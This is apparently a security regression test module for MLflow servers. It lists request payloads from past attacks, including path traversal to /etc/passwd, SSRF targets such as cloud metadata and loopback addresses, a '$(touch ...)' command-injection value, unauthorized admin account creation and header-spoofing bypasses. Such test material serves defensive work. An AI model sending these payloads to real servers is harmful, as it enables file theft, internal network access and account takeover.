"""Attacks that worked on MLflow servers, by the number of their row: what is sent, whoever sends it.

`{run}`, `{other}`, `{canary}` and `{port}` are filled: a run of the victim's, its artifact folder, a file outside the
server's data, a port on this machine that counts who connects. A path that begins with `mlflow` goes below both
prefixes. Rows 10, 27, 29 and 30 are about files that a worker reads: test_hostile_files.py, and
tests/validation/test_scan_*.py.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

CREATE = "mlflow/model-versions/create"
FILES = "mlflow-artifacts/artifacts"
TRAVERSALS = (
    "../../../../etc/passwd",
    "/etc/passwd",
    "..%2f..%2f..%2fetc/passwd",
    "%2e%2e%2f%2e%2e%2fetc/passwd",
    "%252e%252e%252f%252e%252e%252fetc/passwd",
    "..\\..\\etc\\passwd",
    "x%23/../../../etc/passwd",
    "x;/../../../etc/passwd",
    "C:\\Windows\\win.ini",
    "%00/etc/passwd",
)
SOURCES = (
    "file:///etc", "//proc/self/root", "/etc/", "file://localhost/etc", "file:\\..\\..\\etc", "{canary}", "file://{canary}",
    "http://127.0.0.1:{port}/api/2.0/mlflow-artifacts/artifacts/../../../", "https://127.0.0.1:{port}/x",
    "mlflow-artifacts://127.0.0.1:{port}/models/..%2f..%2f", "mlflow-artifacts:/{other}/artifact%00", "s3a://b/x/../../",
    "ftp://127.0.0.1:{port}/x", "s3:/b/../../o", "dbfs:/{run}/artifacts/a%3f/../../../../", "http:///#/../../../../etc/",
    "http://127.0.0.1:{port}/;/../../etc", "http://127.0.0.1:{port}?/../../etc", "http://169.254.169.254/latest", "http://[::1]:{port}/",
    "http://2130706433:{port}/", "http://0x7f000001:{port}/", "http://[::ffff:127.0.0.1]:{port}/", "gopher://127.0.0.1:{port}/",
    "mlflow-artifacts:/{other}/../../../../etc", "models:/none/1", "runs:/{run}/../../../etc", "$(touch {canary}.touched)", "--help",
)  # fmt: skip


@dataclass(frozen=True)
class Sent:
    """One request. ``form`` is sent as a form, ``body`` as JSON, ``raw`` as it is."""

    row: int
    method: str
    path: str
    body: Any = None
    raw: bytes | None = None
    headers: dict[str, str] = field(default_factory=dict)


def attacks() -> Iterator[Sent]:
    """Yield every attack."""
    yield from _sources()
    yield from _paths()
    yield from _places()
    yield from _requests()
    yield from _sizes()


def _sources() -> Iterator[Sent]:
    """Rows 1 to 5, 8, 11, 28: a version, with and without the tag that once switched validation off."""
    prompt = [{"key": "mlflow.prompt.is_prompt", "value": "true"}]
    for source in SOURCES:
        for row, more in ((1, {}), (5, {"tags": prompt}), (2, {"run_id": "{run}"})):
            yield Sent(row, "POST", CREATE, {"name": "victim", "source": source, **more})
        yield Sent(8, "POST", "mlflow/experiments/create", {"name": f"exp {source}", "artifact_location": source})


def _paths() -> Iterator[Sent]:
    """Rows 6, 7, 9: files by a path that leads out, up, down, listed and deleted."""
    for path in TRAVERSALS:
        yield Sent(6, "GET", f"/get-artifact?run_uuid={{run}}&path={path}")
        yield Sent(6, "GET", f"/model-versions/get-artifact?name=victim&version=1&path={path}")
        yield Sent(6, "GET", f"mlflow/artifacts/list?run_id={{run}}&path={path}")
        yield Sent(6, "GET", f"{FILES}?path={path}")
        for method in ("GET", "DELETE", "PUT"):
            yield Sent(7, method, f"{FILES}/{path}", raw=b"x" if method == "PUT" else None)
            yield Sent(7, method, f"{FILES}/experiments/x/{path}", raw=b"x" if method == "PUT" else None)
        yield Sent(9, "POST", f"/ajax-api/2.0/mlflow/upload-artifact?run_uuid={{run}}&path={path}", raw=b"x")
    yield Sent(9, "PUT", f"{FILES}/{{other}}/model/MLmodel", raw=b"overwritten")
    yield Sent(22, "DELETE", f"{FILES}/{{other}}/model/MLmodel")
    for step in ("create", "complete", "abort"):
        body = {"path": "MLmodel", "num_parts": 1, "upload_id": "x", "parts": []}
        yield Sent(22, "POST", f"mlflow-artifacts/mpu/{step}/{{other}}/model", body)


def _places() -> Iterator[Sent]:
    """Rows 12, 13, 17, 18: webhooks into the house, gateways, accounts that were made over the wire."""
    event = [{"entity": "REGISTERED_MODEL", "action": "CREATED"}]
    for url in (
        *("http://127.0.0.1:{port}/", "https://localhost:{port}/", "https://169.254.169.254/", "https://10.0.0.1/", "https://[::1]:{port}/"),
        *("file:///etc/passwd", "gopher://127.0.0.1:{port}/", "https://2130706433:{port}/", "https://[::ffff:7f00:1]:{port}/"),
    ):  # fmt: skip
        yield Sent(12, "POST", "mlflow/webhooks", {"name": "x", "url": url, "events": event})
        yield Sent(12, "POST", "mlflow/webhooks", {"name": "x", "url": url, "events": event, "model_name": "victim"})
    proxied = {"gateway_path": "../../x", "api_base": "http://127.0.0.1:{port}/"}
    yield Sent(13, "POST", "/ajax-api/2.0/mlflow/gateway-proxy", proxied)
    yield Sent(13, "POST", "/gateway/chat/invocations", proxied)
    for path in (
        "/signup",
        "/api/2.0/mlflow/users/create",
        "/ajax-api/2.0/mlflow/users/update-admin",
        "/ajax-api/3.0/jobs/",
    ):
        yield Sent(17, "POST", path, {"username": "evil", "password": "evil-password-1", "is_admin": True})
        yield Sent(18, "POST", path, {"username": "evil", "password": ""})


def _requests() -> Iterator[Sent]:
    """Rows 14, 15, 19, 20, 23, 24: odd hosts, types, spellings and methods; what belongs to others; names that read
    alike.
    """
    update = {"name": "victim", "description": "defaced"}
    yield Sent(14, "GET", "mlflow/registered-models/get?name=victim", headers={"Host": "evil.example"})
    foreign = {"Origin": "https://evil.example", "Content-Type": "text/plain"}
    yield Sent(
        15, "PATCH", "mlflow/registered-models/update", raw=b'{"name":"victim","description":"x"}', headers=foreign
    )
    for path in (
        "//api//2.0//mlflow//registered-models//update",
        "/API/2.0/mlflow/registered-models/update",
        "/api/2.0/mlflow/registered-models/update/",
        "/api/2.0/mlflow/registered-models/update;x",
        "/api/2.0/mlflow/registered-models/%2e%2e/registered-models/update",
    ):
        yield Sent(19, "PATCH", path, update)
    yield Sent(19, "GET", "mlflow/registered-models/update?name=victim", headers={"X-HTTP-Method-Override": "PATCH"})
    for path in (
        "/v1/traces",
        "/graphql",
        "/ajax-api/3.0/mlflow/traces/search",
        "/api/3.0/mlflow/label-schemas/create",
        "/api/3.0/mlflow/datasets/create",
    ):
        yield Sent(23, "POST", path, {"query": "{ mlflowSearchModelVersions { modelVersions { name } } }"})
    for name in (
        "victim ",
        "VICTIM",
        "vict\u0456m",
        "vi\u200dctim",
        "\uff56\uff49\uff43\uff54\uff49\uff4d",
        "vict%69m",
    ):
        yield Sent(24, "POST", "mlflow/registered-models/create", {"name": name})


def _sizes() -> Iterator[Sent]:
    """Row 25: what is too long, too deep, too many."""
    for huge in ("x" * 1_000_000, ["x"] * 3, {"a": 1}):
        yield Sent(25, "POST", "mlflow/registered-models/create", {"name": huge})
    yield Sent(
        25,
        "POST",
        "mlflow/registered-models/create",
        {"name": "many", "tags": [{"key": f"k{n}", "value": "v" * 200_000} for n in range(3)]},
    )
    yield Sent(25, "POST", "mlflow/registered-models/create", raw=b'{"name":' + b"[" * 10_000 + b"]" * 10_000 + b"}")
    for query in (
        "max_results=1000000000",
        "max_results=-1",
        "page_token=%00",
        "page_token=x",
        f"filter={'a' * 20_000}",
    ):
        yield Sent(25, "GET", f"mlflow/registered-models/search?{query}")
